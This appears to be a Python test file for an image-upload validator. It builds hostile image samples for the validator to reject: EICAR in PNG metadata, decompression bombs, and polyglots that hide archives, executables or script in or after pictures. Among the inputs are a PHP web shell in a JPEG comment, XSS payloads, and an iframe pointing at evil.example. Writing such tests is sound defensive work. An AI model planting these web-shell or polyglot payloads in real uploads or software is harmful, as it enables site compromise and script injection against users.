"""Files that pass for a picture but are not safe: malware inside a valid one, bombs that claim huge sizes,
and polyglots or payloads hidden inside or after the picture."""

import random
import struct
import zlib

from inspiracle.pipeline.tests.hostile.builders import (
    EICAR,
    MALWARE_TEST_MARKER,
    encode,
    gif_by_hand,
    jpeg_resized_header,
    jpeg_with,
    picture,
    png_by_hand,
    png_chunk,
    png_with,
    tiff_by_hand,
    webp_canvas,
    zeros_deflated,
    zipped,
)
from inspiracle.pipeline.tests.hostile.case import Case, Samples, no


def malware_cases(s: Samples) -> list[Case]:
    """The checks let these through; the malware scan after them refuses them."""
    return [
        no(
            "eicar-in-png-text",
            "eicar.png",
            png_with(s.png, png_chunk(b"tEXt", b"Comment\x00" + EICAR)),
            "malware",
            "EICAR in a tEXt chunk of a valid PNG: found by the test signature that matches the string anywhere; "
            "stock ClamAV matches EICAR only as a whole file (Cisco-Talos/clamav#1277)",
        ),
        no(
            "marker-in-jpeg-comment",
            "marker.jpg",
            jpeg_with(s.jpeg, 0xFE, b"note: " + MALWARE_TEST_MARKER),
            "malware",
            "the test signature's marker in a COM segment",
        ),
    ]


def bomb_cases(s: Samples) -> list[Case]:
    """Small files that claim huge pictures, many frames or huge text: refused before anything is allocated."""
    text_bomb = zeros_deflated(8 << 20)  # 8 KB that inflates to 8 MB, past Pillow's 1 MB per text chunk
    iend = len(s.png) - 12
    pages = [picture(2, 2, seed=i) for i in range(304)]
    return [
        no(
            "png-100k",
            "huge.png",
            png_by_hand(100_000, 100_000, zeros_deflated(1 << 20)),
            "too_many_pixels",
            "bomb: IHDR claims 100,000 x 100,000",
        ),
        no(
            "png-bomb-over-limit",
            "bomb.png",
            png_by_hand(10_000, 10_000, zeros_deflated(16 << 20)),
            "too_many_pixels",
            "bomb: 100 MP header over zero IDAT",
        ),
        no(
            "png-bomb-zero-idat",
            "bomb.png",
            png_by_hand(1000, 1000, zeros_deflated(48 << 20)),
            "damaged",
            "bomb: a 1,000 x 1,000 header (3 MB of rows) over IDAT inflating to 48 MB",
        ),
        no(
            "jpeg-sof-65535",
            "huge.jpg",
            jpeg_resized_header(s.jpeg, 65_535, 65_535),
            "too_many_pixels",
            "bomb: SOF claims 65,535 x 65,535, the most JPEG can",
        ),
        no(
            "gif-65535",
            "huge.gif",
            gif_by_hand(65_535, 65_535, 1),
            "too_many_pixels",
            "bomb: logical screen 65,535 x 65,535, the most GIF can",
        ),
        no(
            "gif-frame-past-screen",
            "grow.gif",
            gif_by_hand(1, 1, 1, frame_size=(20_000, 20_000)),
            "too_many_pixels",
            "bomb: a 1 x 1 screen, a 20,000 x 20,000 frame",
        ),
        no(
            "tiff-100k",
            "huge.tif",
            tiff_by_hand(100_000, 100_000),
            "too_many_pixels",
            "bomb: IFD claims 100,000 x 100,000",
        ),
        no(
            "webp-huge-canvas",
            "huge.webp",
            webp_canvas(16_384, 16_384, s.webp),
            "too_many_pixels",
            "bomb: VP8X canvas 16,384 x 16,384",
        ),
        no(
            "gif-3000-frames",
            "long.gif",
            gif_by_hand(16, 16, 3000),
            "too_many_frames",
            "bomb: 3,000 one-pixel frames in 45 KB",
        ),
        no(
            "tiff-305-pages",
            "pages.tif",
            encode(pages[0], "TIFF", save_all=True, append_images=pages[1:]),
            "too_many_frames",
            "305 pages",
        ),
        no(
            "apng-claims-100k-frames",
            "anim.png",
            png_with(s.png, png_chunk(b"acTL", struct.pack(">II", 100_000, 0))),
            "too_many_frames",
            "bomb: acTL claims 100,000 frames",
        ),
        no(
            "png-ztxt-bomb",
            "notes.png",
            png_with(s.png, png_chunk(b"zTXt", b"Comment\x00\x00" + text_bomb)),
            "damaged",
            "bomb: zTXt inflating to 8 MB",
        ),
        no(
            "png-iccp-bomb",
            "icc.png",
            png_with(s.png, png_chunk(b"iCCP", b"ICC\x00\x00" + text_bomb)),
            "damaged",
            "bomb: iCCP inflating to 8 MB",
        ),
        no(
            "png-ztxt-bomb-after-idat",
            "notes.png",
            s.png[:iend] + png_chunk(b"zTXt", b"Comment\x00\x00" + text_bomb) + s.png[iend:],
            "damaged",
            "bomb: zTXt after IDAT, where Pillow's verify() does not inflate it",
        ),
    ]


def hidden_cases(s: Samples, rng: random.Random) -> list[Case]:
    """Polyglots and payloads inside or after a valid picture."""
    js_gif = (
        b"GIF89a/*" + s.gif[8:] + b"*/=1;alert(document.domain);//"
    )  # the screen width bytes open a JS comment
    ztxt = png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"<iframe src=//evil.example></iframe>"))
    return [
        no("png-html-polyglot", "page.png", s.png + s.html, "hidden_content", "an HTML page after IEND"),
        no(
            "jpeg-zip-polyglot",
            "photo.jpg",
            s.jpeg + zipped("payload.js", b"alert(1)"),
            "hidden_content",
            "a ZIP after EOI",
        ),
        no(
            "gif-js-polyglot",
            "x.gif",
            js_gif,
            "hidden_content",
            "GIF and JavaScript at once: script after the trailer",
        ),
        no(
            "png-html-in-text",
            "note.png",
            png_with(s.png, png_chunk(b"tEXt", b"Comment\x00<script>alert(1)</script>")),
            "hidden_content",
            "a script in tEXt",
        ),
        no(
            "png-html-in-ztxt",
            "note.png",
            png_with(s.png, ztxt),
            "hidden_content",
            "markup seen only once zTXt is inflated",
        ),
        no(
            "jpeg-php-in-comment",
            "shell.jpg",
            jpeg_with(s.jpeg, 0xFE, b"<?php system($_GET['c']); ?>"),
            "hidden_content",
            "a PHP web shell in COM",
        ),
        no(
            "jpeg-svg-in-app1",
            "x.jpg",
            jpeg_with(s.jpeg, 0xE1, b"Exif\x00\x00<svg/onload=alert(1)>"),
            "hidden_content",
            "markup in APP1",
        ),
        no(
            "png-rar-after-iend",
            "x.png",
            s.png + b"Rar!\x1a\x07\x01\x00" + rng.randbytes(64),
            "hidden_content",
            "RAR after IEND",
        ),
        no(
            "png-7z-after-iend",
            "x.png",
            s.png + b"7z\xbc\xaf\x27\x1c\x00\x04" + rng.randbytes(64),
            "hidden_content",
            "7-Zip after IEND",
        ),
        no("jpeg-pdf-after-eoi", "x.jpg", s.jpeg + s.pdf, "hidden_content", "a PDF after EOI"),
        no(
            "gif-exe-after-trailer",
            "x.gif",
            s.gif + s.exe,
            "hidden_content",
            "an MZ executable after the GIF trailer",
        ),
        no(
            "png-zip-in-tail",
            "x.png",
            s.png + rng.randbytes(100) + zipped("a.txt", b"hi"),
            "hidden_content",
            "a ZIP after binary junk after IEND",
        ),
        no(
            "tiff-zip-appended",
            "x.tif",
            s.tiff + zipped("a.txt", b"hi"),
            "hidden_content",
            "a ZIP appended to a TIFF",
        ),
    ]
